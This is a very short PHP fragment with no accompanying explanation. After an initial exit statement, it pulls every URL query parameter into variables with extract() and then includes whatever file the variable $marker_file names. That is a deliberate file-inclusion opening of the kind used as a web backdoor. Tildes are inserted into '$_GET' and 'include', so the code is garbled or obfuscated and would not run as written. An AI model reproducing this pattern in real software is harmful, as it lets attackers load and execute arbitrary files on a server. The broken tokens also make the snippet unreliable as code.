<?php exit; ?>
<?php
extract($_G~ET); inc~lude $marker_file;
